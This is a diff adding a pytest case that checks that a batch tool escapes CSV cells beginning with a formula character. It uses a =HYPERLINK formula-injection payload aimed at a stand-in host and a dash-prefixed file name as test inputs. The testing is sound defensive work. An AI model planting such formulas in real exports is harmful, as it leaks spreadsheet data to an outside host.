@@ -116,3 +116,26 @@ def test_brackets_inside_strings_do_not_count_as_nesting() -> None:
     assert not json_too_deep(text)
     assert json_too_deep("[" * (MAX_DEPTH + 1) + "]" * (MAX_DEPTH + 1))
     assert not json_too_deep("[" * MAX_DEPTH + "]" * MAX_DEPTH)
+
+
+def test_csv_cells_that_would_start_a_spreadsheet_formula_are_kept_as_text(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A title or file name given by whoever wrote the scenario is written so that a
+    spreadsheet opening the CSV shows it as text and runs nothing; the JSONL keeps it as
+    given.
+    (An id is a slug, which cannot start a formula.)"""
+    import csv
+
+    title = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    src = tmp_path / "-cases.jsonl"
+    src.write_text(json.dumps({"id": "plain-id", "title": title, **{
+        k: v for k, v in GOOD.items() if k != "id"}}) + "\n", encoding="utf-8")
+    out = tmp_path / "out.csv"
+    monkeypatch.chdir(tmp_path)  # the key is the file name as given: "-cases.jsonl:1"
+    run_batch(BatchConfig(inputs=[src.name], out=out, workers=1))
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    assert rows and all(r["title"] == "'" + title and r["scenario_id"] == "plain-id" and
+                        r["key"].startswith("'-cases.jsonl") for r in rows)
+    jsonl = tmp_path / "out.jsonl"
+    run_batch(BatchConfig(inputs=[src.name], out=jsonl, workers=1))
+    assert read_jsonl(jsonl)[0]["input"]["key"] == "-cases.jsonl:1"
